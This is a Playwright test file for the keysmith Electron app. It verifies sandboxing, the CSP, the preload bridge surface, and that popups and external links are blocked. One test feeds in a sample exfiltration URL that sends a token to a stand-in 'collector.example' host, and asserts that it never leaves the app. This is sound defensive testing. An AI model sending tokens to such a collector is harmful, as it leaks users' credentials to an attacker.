import { expect, test } from '@playwright/test';
import { electronBinary, launchApp } from './launch';

const binary = electronBinary();
if ('missing' in binary) console.log(`[electron] skipping Electron specs: ${binary.missing}`);

test.describe('the Electron shell', () => {
  test.skip('missing' in binary, 'missing' in binary ? binary.missing : '');

  test('the window runs with every security setting on', async () => {
    const app = await launchApp((binary as { path: string }).path);
    const page = await app.firstWindow();
    const prefs = await app.evaluate(({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]!.webContents;
      // Not in Electron's public typings, but present on WebContents at run time.
      const internal = contents as unknown as { getLastWebPreferences(): object | null };
      return { ...internal.getLastWebPreferences(), url: contents.getURL() };
    });
    expect(prefs).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
    });
    expect(prefs.url).toMatch(/^app:\/\/keysmith\//);
    // Only the narrow bridge reaches the page: no Node, no ipcRenderer.
    const surface = await page.evaluate(() => ({
      keys: Object.keys((window as unknown as { keysmith: object }).keysmith).sort(),
      require: typeof (globalThis as { require?: unknown }).require,
      process: typeof (globalThis as { process?: unknown }).process,
    }));
    expect(surface).toEqual({ keys: ['invoke', 'on'], require: 'undefined', process: 'undefined' });
    await app.close();
  });

  test('the CSP forbids network, navigation and new windows are blocked', async () => {
    const app = await launchApp((binary as { path: string }).path);
    const page = await app.firstWindow();
    const fetchError = await page.evaluate(() =>
      fetch('https://example.com/').then(
        () => 'fetched',
        (error: Error) => error.name,
      ),
    );
    expect(fetchError).toBe('TypeError');
    const before = page.url();
    await page.evaluate(() => {
      window.location.href = 'https://example.com/';
    });
    await page.waitForTimeout(500);
    expect(page.url()).toBe(before);
    const opened = await page.evaluate(() => window.open('https://example.com/') === null);
    expect(opened).toBe(true);
    expect(app.windows()).toHaveLength(1);
    const info = await page.evaluate(() =>
      (window as unknown as { keysmith: { invoke(c: string): Promise<unknown> } }).keysmith.invoke(
        'app:info',
      ),
    );
    expect(info).toMatchObject({ ok: true });
    await app.close();
  });
  test('window-open is denied for every URL, and nothing reaches the system browser', async () => {
    const app = await launchApp((binary as { path: string }).path);
    const page = await app.firstWindow();
    // Record what would be handed to the system browser instead of opening it.
    await app.evaluate(({ shell }) => {
      const opened: string[] = [];
      (globalThis as { keysmithOpened?: string[] }).keysmithOpened = opened;
      shell.openExternal = (url: string) => {
        opened.push(url);
        return Promise.resolve();
      };
    });
    const urls = [
      'https://datatracker.ietf.org/doc/html/rfc8725',
      'https://collector.example/?t=eyJhbGciOiJSUzI1NiJ9.e30.sig',
      'http://127.0.0.1:9/',
    ];
    for (const url of urls) {
      expect(await page.evaluate((target) => window.open(target) === null, url)).toBe(true);
      await page.evaluate((target) => {
        const link = Object.assign(document.createElement('a'), { href: target, target: '_blank' });
        document.body.append(link);
        link.click();
        link.remove();
      }, url);
    }
    await page.waitForTimeout(500);
    expect(app.windows()).toHaveLength(1);
    const opened = await app.evaluate(
      () => (globalThis as { keysmithOpened?: string[] }).keysmithOpened ?? [],
    );
    expect(opened).toEqual([]);
    await app.close();
  });
});
